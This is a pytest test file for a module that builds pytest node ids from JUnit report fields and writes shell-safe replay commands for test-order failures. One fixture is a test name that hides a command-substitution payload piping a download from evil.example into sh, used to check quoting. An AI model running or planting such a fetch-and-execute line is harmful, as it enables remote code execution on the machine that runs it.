"""The pytest node ids the quarantine list and the replay commands print."""

from __future__ import annotations

from types import SimpleNamespace

import pytest

from reports.selectors import pytest_node_id


@pytest.mark.parametrize(
    ("file", "classname", "name", "node_id"),
    [
        # With a file attribute (xunit1, or a junit_family that writes it).
        ("tests/test_a.py", "tests.test_a", "test_b", "tests/test_a.py::test_b"),
        ("tests/test_a.py", "tests.test_a.TestC", "test_b[1]", "tests/test_a.py::TestC::test_b[1]"),
        # pytest's default JUnit output has no file: the test module in the classname gives it.
        ("", "tests.test_math", "test_flaky", "tests/test_math.py::test_flaky"),
        ("", "tests.test_math.TestX", "test_a[1-2]", "tests/test_math.py::TestX::test_a[1-2]"),
        (
            "",
            "pkg.sub.math_test.TestY.TestZ",
            "test_q",
            "pkg/sub/math_test.py::TestY::TestZ::test_q",
        ),
        ("", "test_top", "test_y", "test_top.py::test_y"),
        # Not pytest: a Java class, a capitalised package, no classname.
        ("", "com.example.FooTest", "testBar", "com.example.FooTest::testBar"),
        ("", "Tests.test_x", "t", "Tests.test_x::t"),
        ("", "", "lonely", "lonely"),
    ],
)
def test_node_ids(file: str, classname: str, name: str, node_id: str) -> None:
    assert pytest_node_id(SimpleNamespace(file=file, classname=classname, name=name)) == node_id


def test_the_replay_command_survives_any_test_name_in_a_shell() -> None:
    import shlex

    from reports.selectors import reproduce_command

    polluter = SimpleNamespace(file="tests/test_a.py", classname="tests.test_a", name="test_p")
    victim = SimpleNamespace(file="tests/test_b.py", classname="tests.test_b",
                             name="test_v[$(curl evil.example|sh)]")  # fmt: skip
    command = reproduce_command(victim, polluter)
    assert shlex.split(command) == [
        "pytest",
        "tests/test_a.py::test_p",
        "tests/test_b.py::test_v[$(curl evil.example|sh)]",
        "-p",
        "no:randomly",
    ]
